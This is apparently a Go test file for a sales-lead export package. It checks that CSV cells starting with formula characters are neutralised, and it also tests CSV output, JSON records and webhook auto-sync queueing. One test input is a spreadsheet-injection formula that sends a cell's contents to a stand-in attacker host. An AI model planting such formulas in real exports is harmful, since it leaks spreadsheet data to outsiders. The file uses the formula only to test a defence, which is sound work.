package leads

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/prospectorhq/prospector"
	"github.com/prospectorhq/prospector/sqlite"
	"github.com/prospectorhq/prospector/webhook"
)

func TestNeutralize(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		// Phone numbers are neutralised like any other cell: a
		// spreadsheet evaluates "+1 555 0100" (an error or a wrong
		// number) and would drop the + of "+15550100".
		{"+1 555 0100", "'+1 555 0100"},
		{"+44 (20) 7946-0958", "'+44 (20) 7946-0958"},
		{"+15550100", "'+15550100"},
		// Left alone: nothing a spreadsheet evaluates at the start.
		{"", ""},
		{"1 555 0100", "1 555 0100"},
		{"(555) 0100", "(555) 0100"},
		{"Ada = Countess", "Ada = Countess"},
		{" =1+1", " =1+1"},
		{"'=1+1", "'=1+1"},
		{"\n=1", "\n=1"},
		{"Zoë", "Zoë"},
	} {
		if got := Neutralize(c.in); got != c.want {
			t.Errorf("Neutralize(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func f64(v float64) *float64 { return &v }

func TestWriteCSV(t *testing.T) {
	created := time.Date(2026, 11, 20, 9, 0, 0, 123e6, time.UTC)
	full := &prospector.Lead{ID: "ld_a", FullName: `Ada "The Countess" Lovelace`, FirstName: "Ada", LastName: "Lovelace",
		Title: "VP, Engineering", Company: "Analytical\nEngines", NetworkURL: "https://network.example/in/ada",
		Email: "ada@example.com", Phone: "+44 20 7946 0958", City: "London", Region: "England", CountryCode: "GB",
		Score: f64(87.5), Status: "detected", Source: "radar", RadarID: "rdr_1", CampaignID: "cmp_1", CreatedAt: created}
	bare := &prospector.Lead{ID: "ld_b", FullName: "Grace Hopper", Source: "radar"}
	var b bytes.Buffer
	if err := WriteCSV(&b, []*prospector.Lead{full, bare}); err != nil {
		t.Fatal(err)
	}
	want := "id,full_name,first_name,last_name,title,company,network_url,email,phone,location,score,status,source,radar_id,campaign_id,created_at\n" +
		`ld_a,"Ada ""The Countess"" Lovelace",Ada,Lovelace,"VP, Engineering","Analytical` + "\n" + `Engines",https://network.example/in/ada,` +
		`ada@example.com,'+44 20 7946 0958,"London, England, United Kingdom",87.5,detected,radar,rdr_1,cmp_1,2026-11-20T09:00:00.123Z` + "\n" +
		"ld_b,Grace Hopper,,,,,,,,,,,radar,,,\n"
	if b.String() != want {
		t.Fatalf("csv:\n%q\nwant\n%q", b.String(), want)
	}
	// Any RFC 4180 reader gets the cells back (less the neutralising quote).
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 || !reflect.DeepEqual(rows[0], Columns) || rows[1][1] != full.FullName || rows[1][5] != full.Company ||
		rows[1][8] != "'"+full.Phone {
		t.Fatalf("read back: %q", rows)
	}
}

func TestRecordAndEntry(t *testing.T) {
	replied := time.Date(2026, 11, 21, 8, 30, 0, 0, time.FixedZone("CET", 3600))
	l := &prospector.Lead{ID: "ld_a", FullName: "Ada Lovelace", FirstName: "Ada", City: "London", CountryCode: "GB",
		Score: f64(90), Status: "replied", Source: "radar", RadarID: "rdr_1", RepliedAt: &replied, ReplyContent: "yes",
		Feedback: "positive", CreatedAt: time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC)}
	got, _ := json.Marshal(NewRecord(l))
	want := `{"id":"ld_a","full_name":"Ada Lovelace","first_name":"Ada","last_name":null,"title":null,"company":null,` +
		`"network_url":null,"email":null,"phone":null,"location":"London, United Kingdom","score":90,"status":"replied",` +
		`"source":"radar","radar_id":"rdr_1","campaign_id":null,"created_at":"2026-11-20T09:00:00.000Z",` +
		`"replied_at":"2026-11-21T07:30:00.000Z","meeting_booked_at":null,"reply_content":"yes","feedback":"positive",` +
		`"feedback_reason":""}`
	if string(got) != want {
		t.Fatalf("record:\n%s\nwant\n%s", got, want)
	}
	e := Entry(l)
	if e.Location != "London, United Kingdom" || e.ID != l.ID || e.Score != l.Score || e.Status != "replied" ||
		!e.CreatedAt.Equal(l.CreatedAt) || e.RadarID != "rdr_1" {
		t.Fatalf("entry %+v", e)
	}
}

// TestAutoSyncQueues: the hook queues a delivery per new lead when the
// workspace's auto-sync is on, nothing when it is off, and a lead once.
func TestAutoSyncQueues(t *testing.T) {
	ctx := context.Background()
	st, err := sqlite.Open(ctx, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	w := prospector.NewWorkspace("sync", prospector.PlanGrowth)
	if err := st.CreateWorkspace(ctx, w); err != nil {
		t.Fatal(err)
	}
	var jobs []*prospector.Job
	ob := &webhook.Outbox{Store: st, Client: webhook.NewClient(webhook.Config{}),
		Enqueue: func(_ context.Context, j *prospector.Job) (bool, error) { jobs = append(jobs, j); return true, nil }}
	a := &AutoSync{Outbox: ob}
	ls := []prospector.Lead{{ID: prospector.NewLeadID(), WorkspaceID: w.ID, FullName: "Ada Lovelace", City: "London"},
		{ID: prospector.NewLeadID(), WorkspaceID: w.ID, FullName: "Grace Hopper"}}
	if err := a.Queue(ctx, w.ID, ls); err != nil || len(jobs) != 0 {
		t.Fatalf("without settings: %v, %d jobs", err, len(jobs))
	}
	s := &prospector.WebhookSettings{WorkspaceID: w.ID, URL: "https://hooks.example.com/in", AutoSync: true,
		SigningSecret: prospector.NewWebhookSecret()}
	if err := st.CreateWebhookSettings(ctx, s); err != nil {
		t.Fatal(err)
	}
	a.OnLeads(ctx, w.ID, ls)
	a.OnLeads(ctx, w.ID, ls[:1]) // again: already queued
	ds, err := st.ListDeliveries(ctx, prospector.DeliveryFilter{WorkspaceID: w.ID})
	if err != nil || len(ds) != 2 {
		t.Fatalf("deliveries: %d, %v", len(ds), err)
	}
	var lead webhook.Lead
	for _, d := range ds {
		if d.LeadID == ls[0].ID {
			_ = json.Unmarshal(d.Payload, &lead)
		}
	}
	if lead.FullName != "Ada Lovelace" || lead.Location != "London" || ds[0].DestinationURL != s.URL {
		t.Fatalf("queued lead %+v", lead)
	}
	keys := map[string]bool{}
	for _, j := range jobs {
		keys[j.Key] = true
	}
	if len(keys) != 2 {
		t.Fatalf("%d distinct first-attempt jobs, want 2 (a lead queued again reuses its job's dedupe key)", len(keys))
	}
}
